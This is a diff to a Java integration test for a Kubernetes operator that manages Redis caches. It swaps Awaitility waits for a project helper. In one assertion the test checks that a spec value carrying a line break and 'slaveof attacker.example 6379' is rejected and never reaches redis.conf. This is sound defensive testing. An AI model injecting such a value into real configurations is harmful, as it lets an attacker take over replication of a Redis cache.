@@ -2,7 +2,6 @@ package io.webserveroperator.faults;
 
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
-import static org.awaitility.Awaitility.await;
 
 import io.fabric8.kubernetes.api.model.ConfigMap;
 import io.fabric8.kubernetes.api.model.Event;
@@ -12,6 +11,7 @@ import io.fabric8.kubernetes.client.dsl.base.ResourceDefinitionContext;
 import io.webserveroperator.dev.FolderApplier;
 import io.webserveroperator.testing.ControlPlaneExtension;
 import io.webserveroperator.testing.Project;
+import io.webserveroperator.testing.Waits;
 import io.webserveroperator.testing.WebServers;
 import java.io.IOException;
 import java.nio.file.Files;
@@ -31,8 +31,6 @@ import org.junit.jupiter.api.extension.RegisterExtension;
  * of a field at the door.
  */
 class InlineValuesIT {
-
-  static final Duration TIMEOUT = Duration.ofSeconds(60);
 
   static final Path FIXTURE =
       Project.file("src/test/resources/io/webserveroperator/faults/redis-cache");
@@ -70,14 +68,14 @@ class InlineValuesIT {
     cluster.startOperator();
     caches.create(
         "cart", Map.of("memory", "1gb", "config", Map.of("maxmemory-policy", "allkeys-lru")));
-    await().atMost(TIMEOUT).until(() -> GOOD_CONF.equals(redisConf(admin, namespace)));
-    await()
-        .atMost(TIMEOUT)
-        .untilAsserted(
-            () ->
-                assertThat(caches.condition("cart", "Ready"))
-                    .hasValueSatisfying(
-                        ready -> assertThat(ready).containsEntry("status", "True")));
+    Waits.until(
+        "the redis.conf of cart",
+        () -> redisConf(admin, namespace),
+        seen -> GOOD_CONF.equals(seen));
+    Waits.untilAsserted(
+        () ->
+            assertThat(caches.condition("cart", "Ready"))
+                .hasValueSatisfying(ready -> assertThat(ready).containsEntry("status", "True")));
     String goodVersion = configMap(admin, namespace).getMetadata().getResourceVersion();
 
     caches.patchSpec(
@@ -88,7 +86,6 @@ class InlineValuesIT {
 
     caches.awaitReadyFalse(
         "cart",
-        TIMEOUT,
         "RenderFailed",
         "RedisCache "
             + namespace
@@ -96,15 +93,15 @@ class InlineValuesIT {
             + " spec.config.maxmemory-policy, \"allkeys-lru\\n    slaveof attacker.example 6379\","
             + " has a line break (\\n) but is printed within a line of a block scalar",
         "pattern: '^[^\\n");
-    await()
-        .atMost(TIMEOUT)
-        .until(
-            () ->
-                admin.v1().events().inNamespace(namespace).list().getItems().stream()
-                    .filter(e -> "cart".equals(e.getInvolvedObject().getName()))
-                    .filter(e -> "Warning".equals(e.getType()))
-                    .map(Event::getMessage)
-                    .anyMatch(m -> m.contains("spec.config.maxmemory-policy")));
+    Waits.until(
+        "the Warning events of cart",
+        () ->
+            admin.v1().events().inNamespace(namespace).list().getItems().stream()
+                .filter(e -> "cart".equals(e.getInvolvedObject().getName()))
+                .filter(e -> "Warning".equals(e.getType()))
+                .map(Event::getMessage)
+                .toList(),
+        seen -> seen.stream().anyMatch(m -> m.contains("spec.config.maxmemory-policy")));
     assertThat(redisConf(admin, namespace)).isEqualTo(GOOD_CONF);
     assertThat(configMap(admin, namespace).getMetadata().getResourceVersion())
         .isEqualTo(goodVersion);
